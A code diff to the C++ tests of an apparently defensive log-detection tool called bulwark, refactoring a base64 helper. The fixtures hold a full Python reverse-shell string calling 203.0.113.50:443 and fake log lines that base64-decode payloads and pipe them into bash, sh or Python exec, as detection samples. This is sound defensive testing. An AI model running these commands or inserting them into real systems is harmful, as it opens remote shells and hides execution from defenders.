@@ -8,6 +8,7 @@
 
 #include "support/test_support.h"
 
+using bulwark::test::coreutilsBase64;
 using bulwark::test::runBulwark;
 using bulwark::test::TempDir;
 using nlohmann::json;
@@ -22,20 +23,6 @@ const std::string kPython =
     "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
     "s.connect((\"203.0.113.50\",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
     "subprocess.call([\"/bin/sh\",\"-i\"])";
-
-// coreutils base64, so the payloads are what the real tool makes.
-std::string base64(const std::string& text) {
-  TempDir dir;
-  bulwark::test::writeFile(dir / "in", text);
-  FILE* p = popen(("base64 -w0 " + (dir / "in").string()).c_str(), "r");
-  REQUIRE(p != nullptr);
-  std::string out;
-  char buf[4096];
-  for (size_t n; (n = std::fread(buf, 1, sizeof buf, p)) > 0;)
-    out.append(buf, n);
-  REQUIRE(pclose(p) == 0);
-  return out;
-}
 
 std::string hex(const std::string& text) {
   static const char* digits = "0123456789ABCDEF";
@@ -77,17 +64,18 @@ struct Fixture {
     bulwark::test::writeFile(
         authLog,
         sudoLine("09:00:00", "alice",
-                 "/bin/bash -c echo " + base64(kDevTcp) + " | base64 -d | bash") +
+                 "/bin/bash -c echo " + coreutilsBase64(kDevTcp) + " | base64 -d | bash") +
             sudoLine("09:05:00", "bob",
-                     "/usr/bin/python3 -c import base64;exec(base64.b64decode('" + base64(kPython) +
-                         "'))") +
-            sudoLine("09:10:00", "carol",
-                     "/bin/sh -c echo " + base64("backup finished at 09:10") + " | base64 -d") +
+                     "/usr/bin/python3 -c import base64;exec(base64.b64decode('" +
+                         coreutilsBase64(kPython) + "'))") +
+            sudoLine(
+                "09:10:00", "carol",
+                "/bin/sh -c echo " + coreutilsBase64("backup finished at 09:10") + " | base64 -d") +
             sudoLine("09:15:00", "dave", "/bin/sh -c echo '!!%%not-base64%%!!' | base64 -d | sh") +
             sudoLine("09:20:00", "erin", "/usr/bin/base64 -d /srv/keys/backup.b64"));
     bulwark::test::writeFile(
-        auditLog, auditExec("1764322000.000:900",
-                            "bash -c \"$(echo " + base64(kNetcat) + " | base64 --decode)\""));
+        auditLog, auditExec("1764322000.000:900", "bash -c \"$(echo " + coreutilsBase64(kNetcat) +
+                                                      " | base64 --decode)\""));
     config = bulwark::test::writeConfig(dir, {{"vm", ""}}, {});
   }
 
@@ -236,8 +224,8 @@ TEST_CASE("follow mode hands appended lines to the native detector", "[sdkevents
     raised += json::parse(line)["rule"] == kRule;
   CHECK(raised == 2);  // alice and bob; the audit log is not followed here
   // Appended after the stored position: only the new line is read on restart.
-  std::string more =
-      sudoLine("10:00:00", "mallory", "/bin/sh -c echo " + base64(kNetcat) + "|base64 -d|sh");
+  std::string more = sudoLine("10:00:00", "mallory",
+                              "/bin/sh -c echo " + coreutilsBase64(kNetcat) + "|base64 -d|sh");
   std::string all = bulwark::test::readFile(f.authLog) + more;
   bulwark::test::writeFile(f.authLog, all);
   auto second = runBulwark({"detect", "--follow", "--max-polls", "2", "--poll-ms", "10", "--source",
@@ -265,12 +253,12 @@ TEST_CASE("a huge encoded payload is decoded within limits and its evidence capp
       dir / "commands.jsonl",
       json{{"time", "2026-11-28T09:00:00Z"},
            {"user", "alice"},
-           {"command", "echo " + base64(huge) + " | base64 -d | bash"}}
+           {"command", "echo " + coreutilsBase64(huge) + " | base64 -d | bash"}}
               .dump() +
           "\n" +
           json{{"time", "2026-11-28T09:01:00Z"},
                {"user", "bob"},
-               {"command", "echo " + base64(benignHuge) + " | base64 -d > /dev/null"}}
+               {"command", "echo " + coreutilsBase64(benignHuge) + " | base64 -d > /dev/null"}}
               .dump() +
           "\n");
   auto config = bulwark::test::writeConfig(dir, {{"vm", ""}}, {});
